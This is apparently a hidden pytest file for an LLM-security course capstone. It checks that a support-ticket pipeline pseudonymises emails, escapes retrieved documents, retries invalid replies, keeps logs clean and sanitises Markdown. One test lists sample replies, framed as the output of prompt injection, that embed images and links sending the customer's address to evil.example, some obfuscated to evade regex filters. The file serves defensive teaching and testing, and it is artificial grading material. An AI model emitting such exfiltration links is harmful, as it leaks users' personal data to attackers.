"""Hidden checks for `capstone`: answer_ticket() composes the course's defences in order.

The model is a scripted fake client that records every call. Tickets, articles and
replies were written for these checks; addresses use the domains RFC 2606 reserves
for examples (example.com, example.org, example.net) and the reserved top-level
domain .example for the attacker (evil.example).
"""

from __future__ import annotations

import copy
import json
import logging
from html.parser import HTMLParser
from urllib.parse import urlsplit

from markdown_it import MarkdownIt

ANN = "ann.lee@example.com"
ANN_WORK = "ann@example.org"
TICKET = (
    f"Hello, I'm Ann Lee ({ANN}). I paid twice for order 1042 and would like a refund. "
    f"You can also reach me at {ANN.upper()} or at my work address {ANN_WORK}."
)
PSEUDO_TICKET = (
    "Hello, I'm Ann Lee (<EMAIL_1>). I paid twice for order 1042 and would like a refund. "
    "You can also reach me at <EMAIL_1> or at my work address <EMAIL_2>."
)
DOCS = [
    "Refunds: we refund double payments within 5 working days. "
    "Details: https://help.example.com/refunds",
    "Contact: write to support@example.net <not a tag>. Prices include VAT & shipping.",
]
BLOCKS = (
    '<document index="1">\n'
    "Refunds: we refund double payments within 5 working days. "
    "Details: https://help.example.com/refunds\n"
    "</document>\n\n"
    '<document index="2">\n'
    "Contact: write to support@example.net &lt;not a tag&gt;. Prices include VAT &amp; "
    "shipping.\n"
    "</document>"
)
ALLOWED = frozenset({"help.example.com"})
SCHEMA = {
    "type": "object",
    "properties": {"answer": {"type": "string", "maxLength": 2000}},
    "required": ["answer"],
    "additionalProperties": False,
}


def _short(value: object, limit: int = 300) -> str:
    """repr() of a value, cut in the middle when it is too long to read in a message."""
    text = repr(value)
    if len(text) <= limit:
        return text
    return f"{text[: limit // 2]} ... {text[-limit // 2 :]} ({len(text)} characters)"


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.urls += [value for name, value in attrs if name in ("src", "href") and value]


def _rendered_urls(markdown: str) -> list[str]:
    """URLs a CommonMark renderer would fetch or link to that are not on ALLOWED."""
    parser = _Links()
    parser.feed(MarkdownIt("commonmark").render(markdown))
    return [url for url in parser.urls if urlsplit(url).hostname not in ALLOWED]


def ok(answer: str) -> str:
    """A valid reply: the JSON object the schema asks for."""
    return json.dumps({"answer": answer})


class TooManyCalls(BaseException):
    """Raised by the fake when called more often than scripted (not an Exception on purpose)."""


class ScriptedClient:
    """A fake ollama client. Each scripted step is a reply str, a full response dict, a
    function of the call's keyword arguments returning a reply str, or an exception."""

    def __init__(self, *script: object) -> None:
        self.script = list(script)
        self.calls: list[dict] = []

    def chat(self, *args: object, **kwargs: object) -> dict:
        assert not args, (
            f"answer_ticket() called client.chat() with positional arguments {_short(args)}. "
            "Use keywords: client.chat(model=MODEL, messages=messages, format=REPLY_SCHEMA, "
            "options=dict(CHAT_OPTIONS))."
        )
        self.calls.append(copy.deepcopy(kwargs))
        if not self.script:
            raise TooManyCalls(
                f"answer_ticket() called the model {len(self.calls)} times, more than this "
                "check allows. Call it at most `budget` times, and stop at the first valid "
                "answer or at the first exception."
            )
        step = self.script.pop(0)
        if isinstance(step, BaseException):
            raise step
        if callable(step):
            step = step(kwargs)
        if isinstance(step, dict):
            return step
        return {"model": "llama3.2", "message": {"role": "assistant", "content": step},
                "done": True, "done_reason": "stop", "prompt_eval_count": 120,
                "eval_count": 40}


def echo(kwargs: dict) -> str:
    """A model that repeats the user message it was given, as a valid reply."""
    messages = kwargs.get("messages") or [{}]
    return ok(str(messages[-1].get("content", "")))


def _answer(exercise, client, ticket=TICKET, documents=DOCS, budget=3):
    return exercise.answer_ticket(
        ticket, list(documents), client, allowed_hosts=set(ALLOWED), budget=budget
    )


def test_model_never_sees_the_email(exercise):
    """The model only ever sees placeholders, never the customer's email addresses"""
    client = ScriptedClient("Sorry, I can't answer in JSON.", echo)
    final = _answer(exercise, client)
    assert client.calls, "answer_ticket() never called the model (client.chat)."
    for number, call in enumerate(client.calls, 1):
        sent = repr(call).lower()
        leaked = [email for email in (ANN, ANN_WORK) if email in sent]
        assert not leaked, (
            f"Call {number} to the model contained {leaked!r}: {_short(call)}. Pseudonymise "
            "the ticket first (pseudonymise_emails) and put only the placeholder text in "
            "the messages, on every attempt. Whatever reaches the model may end up in the "
            "provider's logs or in training data (OWASP LLM02)."
        )
        assert "<EMAIL_1>" in sent.upper() and "<EMAIL_2>" in sent.upper(), (
            f"Call {number} to the model does not contain the placeholders <EMAIL_1> and "
            f"<EMAIL_2>: {_short(call)}. The ticket should reach the model pseudonymised, "
            "not removed: the model needs the text to answer."
        )
    assert ANN in final, (
        f"The model echoed the pseudonymised ticket back, and answer_ticket() returned "
        f"{_short(final)}, expected the real address {ANN!r} in it: restore the "
        "placeholders in the final answer (and only there), BEFORE sanitising it (the "
        "sanitiser escapes '<EMAIL_1>', after which restore() cannot find it), so the "
        "customer reads their own address."
    )


def test_builds_the_messages(exercise):
    """Sends the system prompt alone, then the ticket and the escaped document blocks"""
    client = ScriptedClient(ok("Thanks, done."))
    _answer(exercise, client)
    assert len(client.calls) == 1, (
        f"The model was called {len(client.calls)} times for a ticket whose first reply was "
        "valid, expected once: stop at the first valid answer."
    )
    call = client.calls[0]
    messages = call.get("messages")
    roles = [m.get("role") for m in messages] if isinstance(messages, list) else messages
    assert roles == ["system", "user"], (
        f"The model got messages with the roles {roles!r}, expected ['system', 'user']: one "
        "system message with your instructions, one user message with the untrusted text."
    )
    system, user = messages[0].get("content"), messages[1].get("content")
    assert system == exercise.SYSTEM_PROMPT, (
        f"The system message is {_short(system)}, expected SYSTEM_PROMPT unchanged. The "
        "system role is for your instructions only: a document or the ticket in it gets "
        "the authority of your own instructions, which is what an injection wants."
    )
    expected = f"{PSEUDO_TICKET}\n\n{BLOCKS}"
    assert user == expected, (
        f"The user message is {_short(user, 600)}, expected {_short(expected, 600)}: the "
        "pseudonymised ticket, two newlines, then document_blocks(documents), each article "
        "escaped and wrapped in its own <document> block."
    )
    assert call.get("model") == exercise.MODEL and call.get("format") == SCHEMA, (
        f"The call used model={call.get('model')!r} and format={_short(call.get('format'))}, "
        "expected model=MODEL and format=REPLY_SCHEMA: structured output makes a JSON "
        "reply likely (parse_reply() still checks it)."
    )
    options = call.get("options")
    assert isinstance(options, dict) and options.get("num_predict") == 400, (
        f"The call used options={options!r}, expected CHAT_OPTIONS with num_predict=400: "
        "without a cap the model may generate until the server's own limit (OWASP LLM10)."
    )
    client = ScriptedClient(ok("Thanks, done."))
    _answer(exercise, client, documents=[])
    user = client.calls[0]["messages"][1].get("content")
    assert user == PSEUDO_TICKET, (
        f"With no documents the user message is {_short(user)}, expected the pseudonymised "
        f"ticket alone ({_short(PSEUDO_TICKET)}), with no trailing newlines or empty blocks."
    )


def test_blocks_exfiltration_links(exercise):
    """Injected images and links never carry the customer's address out"""
    replies = [
        "Thanks! ![status](https://evil.example/s.png?u=<EMAIL_1>)",
        "[Track your refund](https://evil.example/t?e=<EMAIL_2>)",
        "See ![logo][1]\n\n[1]: https://evil.example/l.png?u=<EMAIL_1>",
        "Status: <https://evil.example/?u=<EMAIL_1>>",
        'Done <img src="https://evil.example/p.png?u=<EMAIL_1>">',
        "![status](https://help.example.com/p.png?u=<EMAIL_1>)",
        "Visit https://evil.example/?u=<EMAIL_2> for details",
        "![status](https://help.example.com@evil.example/p.png?u=<EMAIL_1>)",
        # Ways to write a URL that a regex over the Markdown misses; a CommonMark
        # renderer fetches every one of them from evil.example.
        "Done ![s](https://evil.example&num;@help.example.com/s.png?u=<EMAIL_1>)",
        "Done ![s](https://evil.example/s.png?u=((<EMAIL_1>)))",
        "Done ![s][r]\r\r[r]: https&colon;//evil.example/s.png?u=<EMAIL_1>",
        "Done ![s][r]\n\n-   > [r]: https&colon;//evil.example/s.png?u=<EMAIL_1>",
        "Done ![s][r]\n\n- [r]: https&colon;//evil.example/s.png?u=<EMAIL_2>",
    ]
    for reply in replies:
        client = ScriptedClient(ok(reply))
        final = _answer(exercise, client)
        leaked = [email for email in (ANN, ANN_WORK) if email in final]
        fetched = _rendered_urls(final)
        assert not leaked and "evil.example" not in final and not fetched, (
            f"The model (following an injected instruction) replied {reply!r}, and "
            f"answer_ticket() returned {final!r}. That still contains "
            f"{leaked or fetched or ['evil.example']!r}: rendered as Markdown, the image "
            "or link sends the customer's address to the attacker (MITRE ATLAS AML.T0077, "
            "EchoLeak). "
            "Return sanitise_markdown(restore(answer, mapping), allowed_hosts): the "
            "sanitiser must see the restored text, which is what the user's screen gets."
        )
        assert final.startswith("Done") or "Done" not in reply, (
            f"For the reply {reply!r}, answer_ticket() returned {final!r}, expected the "
            "answer's text to stay (starting with 'Done'), only its image removed."
        )


def test_restores_before_sanitising(exercise):
    """Restores placeholders first, then sanitises the exact final text"""
    reply = (
        "Dear <EMAIL_1>, we have refunded order 1042. Details: "
        "[Refunds](https://help.example.com/refunds). A copy goes to <EMAIL_2>."
    )
    expected = (
        f"Dear {ANN}, we have refunded order 1042. Details: "
        f"[Refunds](https://help.example.com/refunds). A copy goes to {ANN_WORK}."
    )
    client = ScriptedClient(ok(reply))
    final = _answer(exercise, client)
    assert final == expected, (
        f"For the reply {reply!r}, answer_ticket() returned {final!r}, expected {expected!r}. "
        "If the placeholders come back escaped ('Dear \\\\<EMAIL\\\\_1\\\\>'), you sanitised "
        "before restoring: the sanitiser escapes < > and _, so restore() no longer finds "
        "them. If they are there as they were, you did not restore. Restore first, then "
        "sanitise, and keep links to allowed hosts as they are."
    )


def test_unknown_placeholders_get_no_value(exercise):
    """Placeholders the customer typed or the model invented never become an address"""
    bob = "bob@example.net"
    ticket = f"Please send the invoice to <EMAIL_1>. My address is {bob}."
    reply = "Hi <EMAIL_2>! We sent the invoice to <EMAIL_1> and to <EMAIL_3>."
    client = ScriptedClient(ok(reply))
    final = _answer(exercise, client, ticket=ticket, documents=[])
    sent = client.calls[0]["messages"][1].get("content") if client.calls else None
    assert sent == "Please send the invoice to <EMAIL_1>. My address is <EMAIL_2>.", (
        f"For the ticket {ticket!r} the user message was {sent!r}, expected the address "
        "as <EMAIL_2>: pseudonymise_emails() skips <EMAIL_1> because the customer already "
        "typed it. Use its text and its mapping as they are."
    )
    assert final.count(bob) == 1 and final.startswith(f"Hi {bob}!"), (
        f"The ticket {ticket!r} contains a literal '<EMAIL_1>' typed by the customer, so "
        f"their address became <EMAIL_2>. For the reply {reply!r}, answer_ticket() returned "
        f"{final!r}, expected {bob!r} exactly once, where <EMAIL_2> was. <EMAIL_1> and the "
        "invented <EMAIL_3> are not keys of the mapping: restore() leaves them alone (and "
        "the sanitiser then escapes them, so they show as typed). Filling them in would "
        "put an address where an attacker chose."
    )


def test_retries_an_invalid_reply(exercise):
    """Rejects an invalid reply and uses the next valid one"""
    truncated = '{"answer": "Dear <EMAIL_1>, your refund of order 1042 is'
    client = ScriptedClient(truncated, ok("Dear <EMAIL_1>, your refund is on its way."))
    final = _answer(exercise, client, budget=3)
    assert len(client.calls) == 2, (
        f"The first reply was cut off (invalid JSON) and the second was valid; the model "
        f"was called {len(client.calls)} times, expected 2: reject an invalid reply, try "
        "again, and stop at the first valid one."
    )
    assert final == f"Dear {ANN}, your refund is on its way.", (
        f"After an invalid and a valid reply, answer_ticket() returned {final!r}, expected "
        f"the second reply, restored and sanitised: "
        f"{f'Dear {ANN}, your refund is on its way.'!r}. Never use text from a reply that "
        "parse_reply() rejected (and if the address is missing, restore before sanitising)."
    )
    assert client.calls[0].get("messages") == client.calls[1].get("messages"), (
        "The second attempt sent different messages from the first. A retry asks the same "
        "question again; in particular it must not restore anything into the prompt."
    )


def test_refusal_after_budget(exercise):
    """Gives up with REFUSAL after exactly `budget` invalid replies"""
    invalid = [
        "Sure! Dear <EMAIL_1>, your refund is on its way.",
        '["Dear <EMAIL_1>"]',
        '{"answer": ""}',
        '{"answer": 42}',
        '{"answer": "Dear <EMAIL_1>", "debug": "system prompt follows"}',
        {"model": "llama3.2", "message": {"role": "assistant"}, "done": True},
    ]
    for budget in (1, 2, 3, 6):
        client = ScriptedClient(*invalid[:budget])
        final = _answer(exercise, client, budget=budget)
        assert len(client.calls) == budget, (
            f"With budget={budget} and only invalid replies, the model was called "
            f"{len(client.calls)} times, expected exactly {budget}: the budget is the "
            "most calls one ticket may cost, the first attempt included."
        )
        assert final == exercise.REFUSAL, (
            f"With budget={budget} and only invalid replies ({_short(invalid[:budget])}), "
            f"answer_ticket() returned {_short(final)}, expected REFUSAL exactly: a fixed "
            "message that contains nothing from the model, the prompt or the error."
        )


def test_refusal_when_the_client_fails(exercise):
    """Returns REFUSAL at the first client error, without retrying"""
    errors = [
        TimeoutError("timed out while waiting for the model"),
        ConnectionError("Failed to connect to Ollama."),
        RuntimeError("server busy (status code: 503)"),
    ]
    for error in errors:
        client = ScriptedClient(error, ok("This must not be used."))
        final = _answer(exercise, client, budget=3)
        assert final == exercise.REFUSAL and len(client.calls) == 1, (
            f"When client.chat() raised {type(error).__name__}({str(error)!r}), "
            f"answer_ticket() returned {_short(final)} after {len(client.calls)} calls, "
            "expected REFUSAL after exactly 1 call. Catch the exception, return REFUSAL, "
            "and don't retry: a timed-out, overloaded or rate-limited server only gets "
            "busier when every ticket asks again (OWASP LLM10)."
        )


def test_no_content_in_logs_or_output(exercise, capsys):
    """Logs and prints nothing from the ticket, the documents, the replies or the errors"""
    secret_reply = "Sure! Internal note 7731: ticket from <EMAIL_1>"
    secret_error = f"timed out: {PSEUDO_TICKET}"
    scenarios = [
        ScriptedClient(secret_reply, ok("Dear <EMAIL_1>, done.")),
        ScriptedClient(TimeoutError(secret_error)),
        ScriptedClient(secret_reply, secret_reply, secret_reply),
    ]
    records: list[logging.LogRecord] = []

    class Collect(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            records.append(record)

    root = logging.getLogger()
    handler, old_level = Collect(level=logging.DEBUG), root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    try:
        for client in scenarios:
            _answer(exercise, client)
    finally:
        root.removeHandler(handler)
        root.setLevel(old_level)
    formatter = logging.Formatter("%(name)s %(levelname)s %(message)s")
    logged = "\n".join(formatter.format(record) for record in records)
    printed = capsys.readouterr()
    forbidden = {
        "the customer's email address": ANN,
        "the ticket's text": "paid twice for order 1042",
        "a document's text": "double payments",
        "the model's reply": "Internal note 7731",
        "a placeholder from the prompt or reply": "<EMAIL_",
    }
    for where, text in (("the logs", logged), ("stdout", printed.out),
                        ("stderr", printed.err)):
        found = [what for what, needle in forbidden.items() if needle.lower() in text.lower()]
        assert not found, (
            f"{where} contain {', '.join(found)}: {_short(text, 500)}. Logs are copied, "
            "kept and read by many people; log what happened (attempt numbers, the "
            "exception's type name), never the text: not the ticket, the documents, the "
            "prompt, the model's reply or str(exc), which can quote the request."
        )


def test_rejects_bad_arguments(exercise):
    """Rejects wrong argument types and a budget below 1 before calling the model"""
    good = {"ticket": TICKET, "documents": DOCS, "allowed_hosts": set(ALLOWED), "budget": 2}
    cases = [
        ("ticket", TICKET.encode()),
        ("ticket", None),
        ("documents", "Refunds take 5 days."),
        ("documents", [b"Refunds take 5 days."]),
        ("documents", None),
        ("allowed_hosts", "help.example.com"),
        ("allowed_hosts", None),
        ("allowed_hosts", {1, 2}),
        ("budget", 0),
        ("budget", -1),
        ("budget", True),
        ("budget", 1.5),
        ("budget", "3"),
    ]
    why = {
        "ticket": "anything but a str would skip the pseudonymiser or crash halfway",
        "documents": "a str would be read as one document per character, and bytes or "
        "None cannot be escaped",
        "allowed_hosts": "a str makes 'host in allowed_hosts' a substring test "
        "('example.com' in 'help.example.com' is True), and hosts must be str",
        "budget": "0 or less means no attempt at all, True is 1 in disguise, and a float or "
        "str is not a number of calls",
    }
    for name, bad in cases:
        args = {**good, name: bad}
        client = ScriptedClient(ok("Thanks."), ok("Thanks."))
        try:
            result = exercise.answer_ticket(
                args["ticket"], args["documents"], client,
                allowed_hosts=args["allowed_hosts"], budget=args["budget"],
            )
            outcome = f"returned {_short(result)}"
        except NotImplementedError:
            raise
        except (TypeError, ValueError):
            outcome = None
        except Exception as exc:  # any other exception is a wrong answer worth describing
            outcome = f"raised {type(exc).__name__}: {exc}"
        assert outcome is None, (
            f"answer_ticket(..., {name}={bad!r}) {outcome}, expected TypeError (wrong type) "
            f"or ValueError (budget below 1): {why[name]}. Call check_arguments(ticket, "
            "documents, allowed_hosts, budget) before anything else."
        )
        assert client.calls == [], (
            f"answer_ticket(..., {name}={bad!r}) called the model before rejecting the "
            "argument: call check_arguments() first, before anything is sent."
        )
